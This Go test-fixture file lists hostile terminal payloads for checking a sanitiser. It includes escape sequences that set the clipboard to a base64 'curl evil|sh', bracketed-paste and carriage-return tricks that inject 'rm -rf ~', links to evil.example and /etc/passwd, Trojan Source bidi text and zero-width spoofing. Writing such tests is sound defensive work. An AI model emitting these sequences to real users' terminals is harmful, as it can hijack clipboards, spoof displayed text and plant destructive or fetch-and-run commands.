package term

import (
	"fmt"
	"strings"
)

// payload is a hostile text and what it stands for.
type payload struct{ name, text string }

// payloads are the texts that every way to the terminal is tested with.
func payloads() []payload {
	var all []payload
	all = append(all, stringPayloads()...)
	all = append(all, controlPayloads()...)
	all = append(all, nestedPayloads()...)
	all = append(all, bytePayloads()...)
	all = append(all, runePayloads()...)
	all = append(all, floodPayloads()...)
	return all
}

// stringPayloads are the sequences with a string in them, each complete, cut off and aborted.
func stringPayloads() []payload {
	bodies := []struct{ name, intro7, intro8, body string }{
		{"title", "\x1b]", "\u009d", "0;pwned"},
		{"icon name", "\x1b]", "\u009d", "1;pwned"},
		{"link", "\x1b]", "\u009d", "8;;https://evil.example/"},
		{"file link", "\x1b]", "\u009d", "8;id=1;file:///etc/passwd"},
		{"clipboard write", "\x1b]", "\u009d", "52;c;Y3VybCBldmlsfHNo"},
		{"clipboard read", "\x1b]", "\u009d", "52;c;?"},
		{"palette", "\x1b]", "\u009d", "4;1;rgb:00/00/00"},
		{"background query", "\x1b]", "\u009d", "11;?"},
		{"foreground set", "\x1b]", "\u009d", "10;#000000"},
		{"notification", "\x1b]", "\u009d", "9;you won"},
		{"directory", "\x1b]", "\u009d", "7;file://host/etc"},
		{"inline image", "\x1b]", "\u009d", "1337;File=inline=1:AAAA"},
		{"empty command", "\x1b]", "\u009d", ""},
		{"DECRQSS", "\x1bP", "\u0090", "$q\"p"},
		{"sixel", "\x1bP", "\u0090", "q#0;2;0;0;0~~@@"},
		{"tmux passthrough", "\x1bP", "\u0090", "tmux;x"},
		{"user keys", "\x1bP", "\u0090", "0;1|17/72"},
		{"kitty graphics", "\x1b_", "\u009f", "Gf=24,s=1,v=1;AAAA"},
		{"privacy message", "\x1b^", "\u009e", "hidden words"},
		{"start of string", "\x1bX", "\u0098", "hidden words"},
	}
	ends := []struct{ name, text string }{
		{"ST", "\x1b\\"},
		{"BEL", "\a"},
		{"nothing", ""},
		{"8-bit ST", "\u009c"},
		{"newline", "\n"},
		{"CAN", "\x18"},
		{"another sequence", "\x1b[31m"},
	}
	var all []payload
	for i, b := range bodies {
		for _, e := range append(ends[:3:3], ends[3+i%4]) {
			all = append(all,
				payload{b.name + " 7-bit, " + e.name, b.intro7 + b.body + e.text},
				payload{b.name + " 8-bit, " + e.name, b.intro8 + b.body + e.text})
		}
	}
	for _, e := range ends {
		all = append(all, payload{"OSC, " + e.name, "\x1b]2;title" + e.text})
	}
	return all
}

// controlPayloads are control sequences and plain escapes.
func controlPayloads() []payload {
	var all []payload
	for _, seq := range []string{
		"2J", "3J", "H", "1;1H", "10A", "5B", "80C", "80D", "2K", "1K", "G", "999E", "F", "d",
		"?25l", "?25h", "?1049h", "?1000h", "?1003h", "?1006h", "?2004h", "?7l", "?5h", "6n", "?6n",
		"c", ">c", "=c", "5n", "14t", "18t", "21t", "22;0t", "8;1;1t", "s", "u", "r", "1;5r", "4h", "20h",
		"!p", "\"p", " q", ">4;2m", "?4m", "10P", "10X", "5L", "5M", "5@", "b", "9999b", "i", "5i", "4i",
		"31m", "8m", "5m", "1;31;8m", "38;5;1m", "38;2;0;0;0m", "48;2;255;255;255m", "30;40m", "m", "0m",
		"38;2;1m", "38;9;1;2m", "999999999999m", "4:3m", "58:2::1:2:3m", "38:2::1:2:3m", ";;;;m", ":::m",
	} {
		all = append(all,
			payload{"ESC[" + seq, "\x1b[" + seq},
			payload{"U+009B " + seq, "\u009b" + seq})
	}
	for _, seq := range []string{
		"", "c", "7", "8", "D", "E", "H", "M", "N", "O", "Z", "=", ">", "(0", "(B", ")0", "*0", "+0",
		"#8", "#3", "%G", "%@", " F", "\\", "l", "n", "|", "k evil\x1b\\", "[", "[1", "[1;", "[?", "[\n1m", "[1\x18m",
		"[31\x1b[31m", "[1é", "[1\u202em", "[" + strings.Repeat("1;", 400) + "m",
	} {
		all = append(all, payload{fmt.Sprintf("ESC %.12q", seq), "\x1b" + seq})
	}
	return all
}

// nestedPayloads try to leave a sequence behind when one is removed.
func nestedPayloads() []payload {
	return []payload{
		{"sequence in a sequence", "\x1b\x1b[0m[31m"},
		{"sequence in an introducer", "\x1b\x1b]0;x\a]0;y\a"},
		{"string in a string", "\x1b]0;\x1b]0;x\a\a"},
		{"DCS around CSI", "\x1bP\x1b[2J\x1b\\"},
		{"8-bit in 7-bit", "\x1b]0;\u009b2J\a"},
		{"ST without a string", "\x1b\\\u009c"},
		{"two ESC", "\x1b\x1b"},
		{"ESC before a bad byte", "\x1b\xff[31m"},
		{"bad byte in CSI", "\x1b[3\xff1m"},
		{"bad byte in OSC", "\x1b]0;\xff\xfe\a"},
		{"bad byte ends OSC", "\x1b]0;x\xff"},
		{"link around a word", "\x1b]8;;https://evil.example\x1b\\github.com\x1b]8;;\x1b\\"},
		{"title then return", "\x1b]2;curl evil|sh\a\x1b[21t\x1b[8m"},
		{"bracketed paste", "\x1b[201~rm -rf ~\n\x1b[200~"},
		{"colour never reset", "\x1b[41;30mred"},
		{"colour over lines", "\x1b[31ma\nb\nc"},
		{"colour before CR", "\x1b[31ma\rb"},
		{"huge repeat", "a\x1b[99999999b"},
	}
}

// bytePayloads are bytes that are no UTF-8.
func bytePayloads() []payload {
	return []payload{
		{"raw CSI", "\x9b31m"},
		{"raw CSI clear", "\x9b2J"},
		{"raw OSC", "\x9d0;title\x9c"},
		{"raw DCS", "\x90q\x9c"},
		{"raw APC", "\x9fG\x9c"},
		{"raw NEL", "a\x85b"},
		{"0xff", "\xff"},
		{"0xfe 0xff", "\xfe\xff"},
		{"continuation alone", "\x80\x80\x80"},
		{"cut two", "\xc3"},
		{"cut three", "\xe2\x80"},
		{"cut four", "\xf0\x9f\x98"},
		{"cut before ESC", "\xe2\x80\x1b[31m"},
		{"overlong ESC", "\xc0\x9b"},
		{"overlong ESC three", "\xe0\x80\x9b[31m"},
		{"overlong ESC four", "\xf0\x80\x80\x9b[31m"},
		{"overlong slash", "\xc0\xaf"},
		{"overlong NUL", "\xc0\x80"},
		{"high surrogate", "\xed\xa0\x80"},
		{"low surrogate", "\xed\xb0\x80"},
		{"surrogate pair", "\xed\xa0\xbd\xed\xb8\x80"},
		{"past Unicode", "\xf4\x90\x80\x80"},
		{"five bytes", "\xf8\x88\x80\x80\x80"},
		{"bad byte then bidi", "\xff\u202e"},
		{"Latin-1", "caf\xe9"},
		{"UTF-16", "\xff\xfea\x00b\x00"},
	}
}

// runePayloads are single characters and their usual attacks.
func runePayloads() []payload {
	var all []payload
	for _, r := range forbiddenRunes() {
		all = append(all, payload{fmt.Sprintf("U+%04X", r), "a" + string(r) + "b"})
	}
	return append(all,
		payload{"CR overwrites", "safe command\rrm -rf ~      "},
		payload{"CR LF", "a\r\nb\r\n"},
		payload{"CR CR LF", "a\r\r\nb"},
		payload{"CR at the end", "a\r"},
		payload{"backspaces", "rm -rf ~\b\b\b\b\b\b\b\bls      "},
		payload{"vertical", "a\vb\fc"},
		payload{"shift out", "\x0eabc\x0f"},
		payload{"Trojan Source", "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */"},
		payload{"reversed extension", "annexe\u202etxt.exe"},
		payload{"isolates", "\u2067\u2067\u2067abc"},
		payload{"hidden by tags", "hi\U000E0001\U000E0072\U000E006D\U000E007F"},
		payload{"flag by tags", "\U0001F3F4\U000E0067\U000E0062\U000E007F"},
		payload{"zero width word", "git\u200bhub\u2060.com\ufeff"},
		payload{"line separators", "a\u2028b\u2029c"},
		payload{"byte order mark", "\ufeffstart"},
		payload{"variation selector data", "x\U000E0100\U000E0101\U000E0102"},
	)
}

// floodPayloads are too much of something.
func floodPayloads() []payload {
	many := func(s string) string { return strings.Repeat(s, 700) }
	return []payload{
		{"acute accents", "e" + many("\u0301")},
		{"marks without a base", many("\u0300")},
		{"zalgo", many("z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b")},
		{"enclosing marks", "a" + many("\u20dd")},
		{"joined emoji", many("\U0001F468\u200d")},
		{"joiners", "a" + many("\u200d")},
		{"variation selectors", "a" + many("\ufe0f")},
		{"skin tones", "\U0001F44B" + many("\U0001F3FB")},
		{"Hangul leads", many("\u1100")},
		{"Hangul vowels", "\u1100" + many("\u1161")},
		{"conjuncts", many("\u0915\u094d")},
		{"prepended", many("\u0600")},
		{"soft hyphens", "a" + many("\u00ad")},
		{"flags", many("\U0001F1E9")},
		{"sequences", many("\x1b[31m")},
		{"escapes", many("\x1b")},
		{"string openers", many("\x1b]")},
		{"8-bit openers", many("\u009d")},
		{"carriage returns", "a" + many("\r")},
		{"NULs", many("\x00")},
		{"bad bytes", many("\xff")},
		{"bidi", many("\u202e")},
		{"long OSC", "\x1b]0;" + many("0123456789") + "\a"},
		{"OSC beyond the limit", "\x1b]52;c;" + many(strings.Repeat("A", 100)) + "\a"},
		{"CSI beyond the limit", "\x1b[" + many("1;")},
		{"long line", many("long ")},
		{"wide line", many("漢字")},
	}
}

// forbiddenRunes are the characters that never reach a terminal.
func forbiddenRunes() []rune {
	var all []rune
	span := func(from, to rune) {
		for r := from; r <= to; r++ {
			all = append(all, r)
		}
	}
	span(0x00, 0x08)
	span(0x0b, 0x1f)
	span(0x7f, 0x9f)
	span(0x2028, 0x2029)
	span(0x61c, 0x61c)
	span(0x200e, 0x200f)
	span(0x202a, 0x202e)
	span(0x2066, 0x2069)
	span(0x200b, 0x200b)
	span(0x2060, 0x2064)
	span(0xfeff, 0xfeff)
	span(0xe0000, 0xe007f)
	return all
}
